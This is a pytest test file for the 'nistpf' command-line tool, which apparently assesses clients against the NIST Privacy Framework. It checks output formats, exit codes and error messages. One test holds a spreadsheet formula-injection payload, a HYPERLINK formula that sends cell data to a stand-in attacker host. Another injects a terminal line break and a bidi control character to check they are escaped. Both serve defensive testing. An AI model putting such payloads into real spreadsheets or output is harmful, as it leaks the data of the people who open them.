"""The nistpf command as a consultant types it: output, formats and exit codes."""

from __future__ import annotations

import io
import json
import re
import shutil
import subprocess
import sys
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

import nistpf
from nistpf import cli
from nistpf.cli import main
from nistpf.errors import BlankInventoryError, OutputExistsError, RegisterError
from nistpf.export.images import CHARTS


def run(capsys, *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    out, err = capsys.readouterr()
    return code, out, err


def test_version(capsys):
    with pytest.raises(SystemExit) as caught:
        main(["--version"])
    assert caught.value.code == 0
    assert capsys.readouterr().out.strip() == f"nistpf {nistpf.__version__}"


def test_framework_prints_the_core_as_a_tree(capsys, fw):
    code, out, err = run(capsys, "framework")
    assert code == 0
    assert err == ""
    lines = out.splitlines()
    assert lines[0] == "NIST Privacy Framework 1.0"
    starts = [line for line in lines if line.strip() and not line.startswith(" " * 12)]
    for row in fw.core.itertuples():
        assert any(line.lstrip().startswith(f"{row.id}  ") for line in starts), row.id
    assert "ID-P  Identify-P: Develop the organizational understanding" in out
    assert "  ID.IM-P  Inventory and Mapping: Data processing by systems" in out
    assert "    ID.IM-P1  Systems/products/services that process data are inventoried." in out


def test_framework_search_shows_matches_under_their_ancestors(capsys):
    code, out, _ = run(capsys, "framework", "--search", "consent")
    assert code == 0
    assert "CT-P  Control-P:" in out
    assert "CT.PO-P1" in out
    assert "ID.IM-P1" not in out


def test_framework_search_csv_and_json(capsys, fw):
    code, out, _ = run(capsys, "framework", "--search", "deletion", "--format", "csv")
    assert code == 0
    table = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False)
    assert list(table["id"]) == list(fw.search("deletion")["id"])
    assert list(table.columns) == list(fw.core.columns)
    code, out, _ = run(capsys, "framework", "--format", "json")
    records = json.loads(out)
    assert len(records) == 123
    assert records[3]["id"] == "ID.IM-P2"


def test_framework_one_element_with_its_references(capsys):
    code, out, _ = run(capsys, "framework", "idim-p1")
    assert code == 0
    assert out.startswith("ID.IM-P1  Systems/products/services that process data are inventoried.")
    assert "in ID-P Identify-P" in out
    assert "in ID.IM-P Inventory and Mapping" in out
    assert "sp800-53r5: CM-8, CM-12, CM-13, PM-5" in out
    code, out, _ = run(capsys, "framework", "CT.DM-P")
    assert "10 Subcategories:" in out


def test_framework_crosswalk_formats(capsys, fw):
    code, out, _ = run(capsys, "framework", "--crosswalk", "sp800-53r5", "--format", "csv")
    assert code == 0
    table = pd.read_csv(io.StringIO(out), dtype=str, keep_default_na=False)
    pd.testing.assert_frame_equal(table, fw.crosswalk("sp800-53r5"))
    code, out, _ = run(capsys, "framework", "--crosswalk", "GDPR", "--format", "json")
    assert len(json.loads(out)) == len(fw.crosswalk("gdpr"))
    code, out, _ = run(capsys, "framework", "--crosswalk", "sp800-53r5")
    assert f"{len(fw.crosswalk('sp800-53r5'))} mappings" in out.splitlines()[0]
    assert "ID.IM-P1   CM-8, CM-12, CM-13, PM-5" in out
    code, out, _ = run(
        capsys, "framework", "ID.IM-P", "--crosswalk", "sp800-53r5", "--format", "csv"
    )
    table = pd.read_csv(io.StringIO(out), dtype=str)
    assert set(table["pf_id"]) <= {f"ID.IM-P{i}" for i in range(1, 9)} | {"ID.IM-P"}
    assert "ID.IM-P2" in set(table["pf_id"])


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (
            ["framework", "--crosswalk", "hipaa"],
            "nistpf: no crosswalk named 'hipaa'; available: csf-1.1",
        ),
        (
            ["framework", "ID.IM-P9"],
            "nistpf: 'ID.IM-P9' is not a Privacy Framework 1.0 ID; closest: ID.IM-P8",
        ),
        (
            ["framework", "--framework-version", "2.0"],
            "nistpf: Privacy Framework version '2.0' is not available",
        ),
    ],
)
def test_errors_are_one_line_with_exit_code_2(capsys, argv, message):
    code, out, err = run(capsys, *argv)
    assert code == 2
    assert out == ""
    assert err.startswith(message)
    assert err.count("\n") == 1


def test_bad_options_exit_2_without_a_traceback(capsys):
    with pytest.raises(SystemExit) as caught:
        main(["framework", "--format", "xml"])
    assert caught.value.code == 2
    err = capsys.readouterr().err
    assert "invalid choice: 'xml'" in err
    assert "Traceback" not in err


def test_demo_prints_the_summary_and_writes_reference_tables(capsys, tmp_path, fw):
    code, out, err = run(capsys, "demo", "-o", str(tmp_path / "out"))
    assert code == 0, err
    assert (
        f"{len(fw.functions)} Functions, {len(fw.categories)} Categories, "
        f"{len(fw.subcategories)} Subcategories"
    ) in out
    assert "Protect-P" in out
    core = pd.read_csv(tmp_path / "out" / "pf-1.0-core.csv", dtype=str, keep_default_na=False)
    pd.testing.assert_frame_equal(core, fw.core)
    crosswalks = pd.read_csv(
        tmp_path / "out" / "pf-1.0-crosswalks.csv", dtype=str, keep_default_na=False
    )
    assert len(crosswalks) == sum(len(fw.crosswalk(n)) for n in fw.crosswalks())
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == [
        "deck.pptx", "gap-register.xlsx", "images", "inventory-template.xlsx",
        "pf-1.0-core.csv", "pf-1.0-crosswalks.csv", "pf-1.0-tiers.csv", "pram.xlsx",
        "report.html",
    ]  # fmt: skip
    # The PRAM workbook reads back as nistpf wrote it: nothing changed yet.
    assert nistpf.read_pram_edits(tmp_path / "out" / "pram.xlsx").empty
    assert sorted(p.name for p in (tmp_path / "out" / "images").iterdir()) == sorted(
        f"{name}.png" for name in CHARTS
    )
    inventory = nistpf.load_inventory(nistpf.sample_path())
    systems = inventory.systems
    assert (
        f"{inventory.about_value('client')} ({nistpf.sample_path().name}): {len(systems)} "
        f"systems ({int(systems['in_scope'].sum())} in scope), {len(inventory.controls)} controls"
    ) in out
    assert len(inventory.warnings) == 1
    warning = inventory.warnings.iloc[0]
    assert (
        f"  warning ({warning['sheet']} row {warning['excel_row']}): {warning['problem']}"
    ) in out.splitlines()
    with pytest.raises(BlankInventoryError):  # the blank template, read and named as such
        nistpf.load_inventory(tmp_path / "out" / "inventory-template.xlsx")
    assessment = nistpf.assess(nistpf.load_inventory(nistpf.sample_path()))
    overall = assessment.overall
    assert (
        f"Overall: current {overall.current:.2f} ({assessment.scale.label(overall.current)}), "
        f"target {overall.target:.2f}, gap {overall.gap:.2f}, coverage {overall.coverage:.0%}"
    ) in out
    for row in assessment.functions.itertuples():
        assert f"{row.current:>8.2f}{row.target:>8.2f}{row.gap:>7.2f}" in out
    top = assessment.subcategories.sort_values(
        ["gap_points", "subcategory"], ascending=[False, True]
    ).iloc[0]
    assert (
        f"  {top['subcategory']:<10}{top['gap_points']:>6.2f}  current {top['current']:.2f}" in out
    )
    assert f"Data-flow findings: {len(assessment.findings)} (" in out


def test_demo_into_a_folder_it_cannot_create_is_one_line(capsys, tmp_path):
    blocker = tmp_path / "file"
    blocker.write_text("not a folder")
    code, _, err = run(capsys, "demo", "-o", str(blocker / "sub"))
    assert code == 2
    assert err.startswith(f"nistpf: cannot write into {blocker / 'sub'}")
    assert err.count("\n") == 1


def test_python_dash_m_and_the_installed_command_work(tmp_path):
    module = subprocess.run(
        [sys.executable, "-m", "nistpf", "framework", "PR.DS-P1"],
        capture_output=True,
        text=True,
        check=False,
        cwd=tmp_path,
    )
    assert module.returncode == 0, module.stderr
    assert module.stdout.startswith("PR.DS-P1  Data-at-rest are protected.")
    script = Path(sys.executable).with_name("nistpf")
    command = subprocess.run(
        [str(script), "--version"], capture_output=True, text=True, check=False
    )
    assert command.returncode == 0
    assert command.stdout.strip() == f"nistpf {nistpf.__version__}"


def test_new_scaffolds_an_engagement_and_refuses_a_folder_in_use(capsys, tmp_path):
    folder = tmp_path / "acme-2026"
    code, out, err = run(capsys, "new", str(folder), "--name", "Acme 2026")
    assert code == 0, err
    names = sorted(p.name for p in folder.iterdir())
    notebooks = sorted(
        p.name for p in (Path(nistpf.__file__).parents[1] / "notebooks").glob("*.ipynb")
    )
    assert names == sorted(["engagement.nistpf", "inventory.xlsx", "voila.json", *notebooks])
    assert f"wrote {folder / 'engagement.nistpf'}" in out
    with pytest.raises(BlankInventoryError):  # the template, still to be filled in
        nistpf.load_inventory(folder / "inventory.xlsx")
    assert nistpf.open_store(folder / "engagement.nistpf").engagement_name == "Acme 2026"
    code, out, err = run(capsys, "new", str(folder))
    assert code == 2
    assert err == (
        f"nistpf: {folder} already exists and is not empty; "
        "choose a new folder for the engagement\n"
    )


def test_validate_csv_quotes_client_values_a_spreadsheet_would_run_as_formulas(tmp_path, capsys):
    import csv as csv_module

    folder = tmp_path / "client"
    folder.mkdir()
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    rows = [
        ["system_id", "name", "criticality"],
        ["S1", "One", formula],
        ["S2", "Two", "@SUM(1)"],
        ["S3", "Three", "High"],
    ]
    with (folder / "Systems.csv").open("w", newline="", encoding="utf-8") as stream:
        csv_module.writer(stream).writerows(rows)
    code, out, _ = run(capsys, "validate", str(folder), "--format", "csv")
    assert code == 1
    read = list(csv_module.DictReader(io.StringIO(out)))
    values = {row["value"] for row in read if row["column"] == "criticality"}
    assert values == {"'" + formula, "'@SUM(1)"}
    for row in read:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_validate_table_shows_a_line_break_or_bidi_control_in_a_value_escaped(tmp_path, capsys):
    """A client's value with a line break, or a right-to-left override that would reorder the
    terminal line, is shown escaped in the table report: each problem stays one line (and its
    fix line), and no raw control character reaches the terminal."""
    import csv as csv_module

    folder = tmp_path / "client"
    folder.mkdir()
    rows = [
        ["system_id", "name", "criticality"],
        ["S1", "One", "High\nERROR   fake: all clear"],
        ["S2", "Two", "Low\u202eX"],
    ]
    with (folder / "Systems.csv").open("w", newline="", encoding="utf-8") as stream:
        csv_module.writer(stream).writerows(rows)
    code, out, _ = run(capsys, "validate", str(folder))
    assert code == 1
    problems = [line for line in out.splitlines() if "criticality" in line]
    assert len(problems) == 2, out  # one line each: the break did not start a line of its own
    assert "[High\\nERROR   fake: all clear]" in problems[0]
    # the loader may drop the control from the value; either way none is printed raw
    assert "[Low\\u202eX]" in problems[1] or "[LowX]" in problems[1]
    assert not any(c in out for c in ("\u202e", "\r")), out
    assert not any(line.startswith("ERROR   fake") for line in out.splitlines())


# -- assess and report -----------------------------------------------------------------------


def file_stem(client: str) -> str:
    """The deliverables' name: the client's, lower case, each run of other characters one "-"
    ("Tallowby & Finch Ltd" → "tallowby-finch-ltd")."""
    return re.sub(r"[^a-z0-9]+", "-", client.lower()).strip("-")


def summary_lines(a: nistpf.Assessment) -> list[str]:
    """Lines the one-screen summary must hold, worked out from the assessment's tables."""
    o = a.overall
    subs = a.subcategories
    profiled = subs[subs["in_profile"]]
    evidenced = int((profiled["source"] != "no evidence").sum())
    without = len(profiled) - evidenced
    severities = a.findings["severity"].value_counts()
    names = a.framework.functions.set_index("id")["name"]
    return [
        f"Overall: current {o.current:.2f} ({a.scale.label(o.current)}), target {o.target:.2f}, "
        f"gap {o.gap:.2f}, coverage {o.coverage:.0%}",
        f"Evidence: {evidenced} of {len(profiled)} outcomes have evidence; the {without} without "
        "score 0 in the roll-ups",
        *(
            f"  {f.function + ' ' + names[f.function]:<20}{f.current:>8.2f}{f.target:>8.2f}"
            f"{f.gap:>7.2f}{f.coverage:>10.0%}"
            for f in a.functions.itertuples(index=False)
        ),
        f"Data-flow findings: {len(a.findings)} ("
        + ", ".join(f"{severities[s]} {s}" for s in ("High", "Medium", "Low") if s in severities)
        + ")",
    ]


@pytest.fixture
def client_source(tmp_path) -> tuple[Path, nistpf.Assessment]:
    """The sample copied into an empty folder as client.xlsx, and its assessment."""
    source = Path(shutil.copy(nistpf.sample_path(), tmp_path / "client.xlsx"))
    return source, nistpf.assess(nistpf.load_inventory(source))


def test_assess_writes_the_register_beside_the_source_and_prints_the_summary(capsys, client_source):
    source, a = client_source
    before = source.read_bytes()
    code, out, err = run(capsys, "assess", str(source))
    assert (code, err) == (0, "")
    register = source.parent / f"{file_stem(a.inventory.about_value('client'))}-gap-register.xlsx"
    assert sorted(p.name for p in source.parent.iterdir()) == sorted([source.name, register.name])
    lines = out.splitlines()
    for line in summary_lines(a):
        assert line in lines, line
    assert lines[-1] == f"wrote {register}"
    assert source.read_bytes() == before
    sheet = openpyxl.load_workbook(register, read_only=True)["Gap Register"]
    rows = list(sheet.values)
    column = rows[0].index("Subcategory")
    subs = a.subcategories
    below = subs[subs["in_profile"] & (subs["gap"] > 0)]
    ranked = below.sort_values(["gap_points", "gap"], ascending=False, kind="stable")
    assert [r[column] for r in rows[1:] if r[column]] == list(ranked["subcategory"])


def test_report_writes_the_html_beside_the_source_and_prints_the_summary(capsys, client_source):
    source, a = client_source
    code, out, err = run(capsys, "report", str(source))
    assert (code, err) == (0, "")
    report = source.parent / f"{file_stem(a.inventory.about_value('client'))}-report.html"
    assert sorted(p.name for p in source.parent.iterdir()) == sorted([source.name, report.name])
    lines = out.splitlines()
    for line in summary_lines(a):
        assert line in lines, line
    assert lines[-2:] == ["", f"wrote {report}"]
    text = report.read_text(encoding="utf-8")
    shown = re.search(r'data-field="overall\.current" data-value="([^"]+)">([^<]+)<', text)
    assert (float(shown[1]), shown[2]) == (a.overall.current, f"{a.overall.current:.2f}")


def test_report_with_pptx_alone_writes_the_deck_and_no_html(capsys, client_source, tmp_path):
    from pptx import Presentation

    source, a = client_source
    deck = tmp_path / "out" / "leadership.pptx"
    deck.parent.mkdir()
    code, out, err = run(capsys, "report", str(source), "--pptx", str(deck))
    assert (code, err) == (0, "")
    assert sorted(p.name for p in source.parent.iterdir()) == sorted([source.name, "out"])
    assert [p.name for p in deck.parent.iterdir()] == [deck.name]
    assert out.splitlines()[-2:] == ["", f"wrote {deck}"]
    assert not [line for line in out.splitlines() if line.endswith(".html")]
    slides = Presentation(str(deck)).slides
    client = a.inventory.about_value("client")
    assert slides[0].shapes.title.text_frame.text.startswith(f"{client}: ")


def test_a_register_written_over_the_input_workbook_gives_that_reason(tmp_path, capsys):
    """Not "has no 'Gap Register' sheet … pass --overwrite", which --overwrite then refuses."""
    import shutil

    source = tmp_path / "inventory.xlsx"
    shutil.copyfile(nistpf.sample_path(), source)
    before = source.read_bytes()
    for extra in ([], ["--overwrite"]):
        assert main(["assess", str(source), "-o", str(source), *extra]) == 2
        err = capsys.readouterr().err
        assert "is the input workbook" in err
        assert "Gap Register" not in err
        assert err.count("\n") == 1
    assert source.read_bytes() == before


# -- a fix that is a choice: the option from the command, the keyword from Python -------------


def test_an_existing_template_names_force_as_the_option_and_as_the_keyword(tmp_path, capsys):
    path = tmp_path / "inventory.xlsx"
    path.write_bytes(b"the client's copy")
    code, out, err = run(capsys, "template", str(path))
    assert code == 2
    assert out == ""
    assert err == f"nistpf: {path} exists; pass --force to replace it\n"
    with pytest.raises(OutputExistsError) as caught:
        nistpf.write_template(path)
    assert str(caught.value) == f"{path} exists; pass force=True to replace it"
    assert caught.value.cli_message() == f"{path} exists; pass --force to replace it"
    assert path.read_bytes() == b"the client's copy"


def test_a_file_at_the_register_path_that_is_no_register_names_overwrite_so(tmp_path, capsys):
    from tests.hostile_paths import workbook

    source = workbook(tmp_path)
    notes = tmp_path / "notes.xlsx"
    notes.write_text("the consultant's notes, not a register", encoding="utf-8")
    code, out, err = run(capsys, "assess", str(source), "-o", str(notes))
    assert code == 2
    assert out == ""
    assert err.count("\n") == 1
    assert err.startswith(f"nistpf: {notes}: ")
    assert err.endswith("; write elsewhere, or pass --overwrite\n")
    assert "overwrite=True" not in err
    from nistpf.export.excel import write_gap_register

    with pytest.raises(RegisterError) as caught:
        write_gap_register(nistpf.assess(nistpf.load_inventory(source)), notes)
    assert str(caught.value).endswith("; write elsewhere, or pass overwrite=True")
    assert "--overwrite" not in str(caught.value)
    assert caught.value.cli_message() == err.removeprefix("nistpf: ").removesuffix("\n")
    assert notes.read_text(encoding="utf-8") == "the consultant's notes, not a register"


def test_a_register_error_carries_the_keyword_and_the_option():
    both = RegisterError("r.xlsx", "no Gap Register sheet; write elsewhere, or pass x=True (--x)")
    assert str(both) == "r.xlsx: no Gap Register sheet; write elsewhere, or pass x=True"
    assert both.cli_message() == "r.xlsx: no Gap Register sheet; write elsewhere, or pass --x"
    assert (both.keyword, both.option) == ("x=True", "--x")
    given = RegisterError("r.xlsx", "empty; pass overwrite=True", keyword="overwrite=True",
                          option="--overwrite")  # fmt: skip
    assert str(given) == "r.xlsx: empty; pass overwrite=True"
    assert given.cli_message() == "r.xlsx: empty; pass --overwrite"
    plain = RegisterError("r.xlsx", "no such file")
    assert str(plain) == plain.cli_message() == "r.xlsx: no such file"


@pytest.mark.parametrize("command", ["validate", "assess", "map"])
def test_an_input_that_cannot_be_read_is_one_line_saying_so(command, tmp_path, capsys, monkeypatch):
    """A permission refused on the inventory is a failure to *read* it, with a fix for that
    (not "choose a folder you can write to", nor "cannot write None" from map)."""
    import errno

    from nistpf.inventory import draft

    source = tmp_path / "client.xlsx"
    source.write_bytes(b"")

    def refused(*args, **kwargs):
        raise PermissionError(errno.EACCES, "Permission denied", str(source))

    monkeypatch.setattr(cli.nistpf, "load_inventory", refused)
    monkeypatch.setattr(draft, "draft_mapping", refused)
    code, _out, err = run(capsys, command, str(source))
    assert code == 2
    assert err == (
        f"nistpf: cannot read {source}: permission denied; ask for access to it, or copy it "
        "somewhere you can read it\n"
    )


def test_an_os_failure_naming_no_file_names_the_input_being_read(tmp_path, capsys, monkeypatch):
    """A failure the system reports without a file name (EINVAL reading /proc/self/pagemap
    through a link) still names the file the command was reading."""
    import errno

    source = tmp_path / "pm.csv"
    source.write_bytes(b"")

    def invalid(*args, **kwargs):
        raise OSError(errno.EINVAL, "Invalid argument")

    monkeypatch.setattr(cli.nistpf, "load_inventory", invalid)
    code, _out, err = run(capsys, "validate", str(source))
    assert code == 2
    assert err == f"nistpf: cannot read {source}: Invalid argument\n"
